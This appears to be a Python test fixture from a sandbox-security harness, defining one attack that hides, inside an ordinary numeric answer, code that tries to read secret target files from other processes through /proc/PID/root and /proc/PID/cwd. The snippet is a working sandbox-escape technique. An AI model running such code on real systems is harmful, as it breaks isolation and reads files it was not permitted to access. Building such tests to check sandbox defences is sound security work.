from ..attack import InCells

ATTACK = InCells(
    "Leaves its own file system through /proc/PID/root, /proc/PID/cwd and /proc/PID/map_files.",
    {
        "number-answer": """
answer = 24
for pid in [*others(), *(["self", 1] if jailed() else [])]:
    for door in ("root", "cwd"):
        for path in (AIM["secret"], AIM["precious"]):
            try:
                gained(door, pid, open(f"/proc/{pid}/{door}{path}").read())
            except OSError:
                pass
"""
    },
)
